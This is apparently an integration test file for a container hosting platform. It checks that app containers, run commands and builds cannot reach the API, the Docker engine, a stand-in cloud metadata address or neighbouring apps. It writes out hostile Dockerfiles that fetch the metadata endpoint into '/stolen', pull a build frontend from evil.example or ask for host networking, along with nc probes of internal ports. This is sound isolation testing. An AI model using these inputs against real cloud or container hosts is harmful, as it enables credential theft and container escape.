import { randomInt } from 'node:crypto';
import { once } from 'node:events';
import { access } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { connect, isIPv4, type AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { must } from '../../support/command.ts';
import { Platform } from '../../support/platform.ts';
import { freePort } from '../../support/ports.ts';
import { tinyApp } from '../../support/tiny-app.ts';

/** A range of this test alone: other installations' rules on this engine do not cover it. */
const SUBNET = '10.214.224.0/20';
/** Stands for the cloud's 169.254.169.254; another one of that range, so that runs side by side do not meet. */
const METADATA = `169.254.${randomInt(1, 255)}.${randomInt(1, 255)}`;
const ENGINE_PORT = 2375;

/** One thing that a container tries: `name host port`, answered as `name=reached` or `name=silent`. */
type Target = readonly [name: string, host: string, port: number];

let platform: Platform;
let apiPort: number;
let loopback: Server;
const standIns: Server[] = [];
/** Addresses of this host as each kind of container sees it. */
let hosts: { app: string; build: string; machine: string };
let neighbour: string;

/** Something that answers on an address of this host where the platform's own part might, were it set up so. */
async function standIn(host: string, port: number): Promise<Server> {
  const server = createServer((_request, response) => response.end('credentials\n'));
  server.listen(port, host);
  await once(server, 'listening');
  standIns.push(server);
  return server;
}

async function hostReaches(host: string, port: number): Promise<boolean> {
  const socket = connect({ host, port });
  try {
    await once(socket, 'connect', { signal: AbortSignal.timeout(20_000) });
    return true;
  } catch {
    return false;
  } finally {
    socket.destroy();
  }
}

/** Seconds in which a busy machine has not only taken a connection but ended it, too. */
const PATIENCE = 15;

/** sh that tries all targets at once, and each path; nothing in it needs more than busybox. */
function probe(tried: readonly Target[]): string {
  const lines = tried.map(
    ([name, host, port]) =>
      `(if nc -w ${PATIENCE} ${host} ${port} </dev/null >/dev/null 2>&1; then echo "${name}=reached"; else echo "${name}=silent"; fi) &`,
  );
  const paths = [
    ...Object.values(sockets()),
    '/var/run/docker.sock',
    '/run/docker.sock',
    platform.paths.root,
  ];
  return [
    ...lines,
    'wait',
    ...paths.map((path) => `if [ -e ${path} ]; then echo "${path}=there"; else echo "${path}=absent"; fi`),
    '',
  ].join('\n');
}

function sockets(): Record<string, string> {
  const { serverSocket, redisSocket, haproxySocket, routerSocket } = platform.paths;
  return { serverSocket, redisSocket, haproxySocket, routerSocket };
}

/** What the platform must answer to all, and what it must not, from a container whose gateway is `gateway`. */
function targets(gateway: string): { open: Target[]; closed: Target[] } {
  const addresses = [
    ['gateway', gateway],
    ['machine', hosts.machine],
  ] as const;
  return {
    open: addresses.flatMap(([name, host]) => [
      [`router-${name}`, host, platform.httpPort] as const,
      [`router-tls-${name}`, host, platform.httpsPort] as const,
      [`ssh-${name}`, host, platform.sshPort] as const,
    ]),
    closed: [
      ...addresses.flatMap(([name, host]) => [
        [`api-${name}`, host, apiPort] as const,
        [`engine-${name}`, host, ENGINE_PORT] as const,
        [`host-loopback-${name}`, host, (loopback.address() as AddressInfo).port] as const,
      ]),
      ['api-own-loopback', '127.0.0.1', apiPort],
      ['metadata', METADATA, 80],
      ['neighbour', neighbour, 8080],
    ],
  };
}

function expectOnlyPublic(said: string, { open, closed }: { open: Target[]; closed: Target[] }): void {
  const answers = Object.fromEntries(
    [...said.matchAll(/([\w./-]+)=(\w+)/g)].map(([, name, end]) => [name, end]),
  );
  for (const [name] of open) expect(answers, name).toMatchObject({ [name]: 'reached' });
  for (const [name] of closed) expect(answers, name).toMatchObject({ [name]: 'silent' });
  const paths = Object.entries(answers).filter(([name]) => name.startsWith('/'));
  expect(paths.length).toBe(Object.keys(sockets()).length + 3);
  expect(paths.filter(([, end]) => end !== 'absent')).toEqual([]);
}

async function replicaOf(app: string): Promise<{ container: string; address: string; gateway: string }> {
  const { id } = (await platform.api(`/v1/apps/${app}`)) as { id: string };
  const running = ['ps', '--filter', `label=sluice.app=${id}`, '--format', '{{.Names}}'];
  const container = (await must('docker', running)).trim();
  const inspect = async (field: string): Promise<string> =>
    (
      await must('docker', [
        'inspect',
        '-f',
        `{{range .NetworkSettings.Networks}}{{.${field}}}{{end}}`,
        container,
      ])
    ).trim();
  return { container, address: await inspect('IPAddress'), gateway: await inspect('Gateway') };
}

async function deployed(name: string, files = tinyApp(name)): Promise<string> {
  await platform.sluiceOk(['apps:create', name]);
  const path = await platform.repository(name, files);
  const push = await platform.git(path, ['push', 'platform', 'main']);
  expect(push.output).toContain('is live');
  return path;
}

function machineAddress(): string {
  const found = Object.entries(networkInterfaces())
    .filter(([name]) => !/^(?:lo|br-|docker|veth)/.test(name))
    .flatMap(([, addresses]) => addresses ?? [])
    .find(({ family, internal }) => family === 'IPv4' && !internal);
  if (!found) throw new Error('this machine has no address');
  return found.address;
}

beforeAll(async () => {
  apiPort = await freePort();
  platform = await Platform.start({ SLUICE_API_PORT: String(apiPort), SLUICE_APP_SUBNET: SUBNET });
  await must('ip', ['addr', 'add', `${METADATA}/32`, 'dev', 'lo']);
  await deployed('inside');
  await deployed('neighbour');
  const named = '{{index .Options "com.docker.network.bridge.name"}}';
  const bridge = (await must('docker', ['network', 'inspect', 'bridge', '-f', named])).trim();
  hosts = {
    app: (await replicaOf('inside')).gateway,
    // Node leaves out a bridge that no container is on at the moment.
    build: /inet ([\d.]+)/.exec(await must('ip', ['-4', '-o', 'addr', 'show', bridge]))?.[1] ?? '',
    machine: machineAddress(),
  };
  expect(
    Object.values(hosts).every((host) => isIPv4(host)),
    JSON.stringify(hosts),
  ).toBe(true);
  neighbour = (await replicaOf('neighbour')).address;
  loopback = await standIn('127.0.0.1', 0);
  await standIn(METADATA, 80);
  for (const host of Object.values(hosts)) {
    await standIn(host, apiPort);
    if (!(await hostReaches(host, ENGINE_PORT))) await standIn(host, ENGINE_PORT);
  }
});
afterAll(async () => {
  for (const server of standIns) server.close();
  await platform?.stop();
  await must('ip', ['addr', 'del', `${METADATA}/32`, 'dev', 'lo']).catch(() => undefined);
});

test('on the host itself all of it is there, so that silence elsewhere means something', async () => {
  expect(await (await fetch(`http://127.0.0.1:${apiPort}/healthz`)).json()).toEqual({ ok: true });
  expect(await (await fetch(`http://${METADATA}/`)).text()).toBe('credentials\n');
  expect(await hostReaches(neighbour, 8080)).toBe(true);
  for (const host of Object.values(hosts)) {
    for (const [name, target, port] of targets(host).closed.filter(([of]) => /^(?:api|engine)-/.test(of)))
      expect(await hostReaches(target, port), `${name} ${target}:${port}`).toBe(true);
  }
  for (const path of [...Object.values(sockets()), '/var/run/docker.sock']) await access(path);
});

test("from an app's container only the router and SSH answer", async () => {
  const { container, address } = await replicaOf('inside');
  const tried = targets(hosts.app);
  const itself: Target = ['itself', address, 8080];
  const said = await must('docker', [
    'exec',
    container,
    'sh',
    '-c',
    probe([...tried.open, itself, ...tried.closed]),
  ]);
  expectOnlyPublic(said, { open: [...tried.open, itself], closed: tried.closed });
});

test('from a command of `sluice run` too', async () => {
  const tried = targets(hosts.app);
  const said = await platform.sluiceOk([
    'run',
    '-a',
    'inside',
    '--',
    'sh',
    '-c',
    probe([...tried.open, ...tried.closed]),
  ]);
  expectOnlyPublic(said, tried);
});

test("from a build's RUN too, and containers of apps are not reached from there either", async () => {
  const tried = targets(hosts.build);
  const inside: Target = ['other-app', (await replicaOf('inside')).address, 8080];
  const closed = [...tried.closed, inside];
  await platform.sluiceOk(['apps:create', 'builds']);
  const files = tinyApp('builds', { 'probe.sh': probe([...tried.open, ...closed]) });
  const Dockerfile = (files['Dockerfile'] as string).replace('RUN cat', 'RUN sh /app/probe.sh\nRUN cat');
  const path = await platform.repository('builds', { ...files, Dockerfile });
  const push = await platform.git(path, ['push', '-o', 'wait=build', 'platform', 'main']);
  expect(push.code, push.output).toBe(0);
  expectOnlyPublic(push.stdout + push.stderr, { open: tried.open, closed });
});

const outside = `FROM busybox:1 AS base
ADD http://${METADATA}/ /stolen
RUN cat /stolen
CMD ["true"]
`;
test.each([
  ['ADD of an address', outside, 'ADD of an address'],
  [
    'the same as a trigger',
    outside.replace('ADD', 'ONBUILD ADD').replace('RUN', 'FROM base\nRUN'),
    'ADD of an address',
  ],
  [
    'the same by a variable',
    outside.replace('ADD http', 'ENV U=http').replace('/ /stolen', '/\nADD $U /stolen'),
    'ADD of an address',
  ],
  [
    'a frontend of its own',
    `# syntax=evil.example/frontend:1\n${outside.replace(/ADD.*\n/, '')}`,
    'not a frontend',
  ],
  ['a network of the host', outside.replace(/ADD.*\nRUN/, 'RUN --network=host'), '!'],
  ['more rights', outside.replace(/ADD.*\nRUN/, 'RUN --security=insecure'), '!'],
])('the engine does not fetch for a build what the build may not: %s', async (what, Dockerfile, refusal) => {
  const name = `x${what.replaceAll(/[^a-z]/g, '').slice(0, 20)}`;
  await platform.sluiceOk(['apps:create', name]);
  const path = await platform.repository(name, tinyApp(name, { Dockerfile }));
  const push = await platform.git(path, ['push', '-o', 'wait=build', 'platform', 'main']);
  expect(push.code, push.output).not.toBe(0);
  expect(push.output).toContain(refusal);
  expect(push.output).not.toContain('credentials');
});

test("an app's cache mounts are its own", async () => {
  const mount = 'RUN --mount=type=cache,target=/root/.cache';
  const build = async (name: string, command: string): Promise<string> => {
    await platform.sluice(['apps:create', name]);
    const Dockerfile = `FROM busybox:1\nCOPY nonce /\n${mount} ${command}\nCMD ["true"]\n`;
    const path = await platform.repository(name, tinyApp(name, { Dockerfile }));
    const push = await platform.git(path, [
      'push',
      '-f',
      '-o',
      'supersede',
      '-o',
      'wait=build',
      'platform',
      'main',
    ]);
    expect(push.code, push.output).toBe(0);
    return push.output;
  };
  await build('poisons', 'echo poison > /root/.cache/package');
  expect(await build('poisons', 'cat /root/.cache/package')).toContain('poison\n'.trim());
  expect(await build('drinks', 'ls -l /root/.cache | sed s/^/found:/')).not.toContain('package');
});
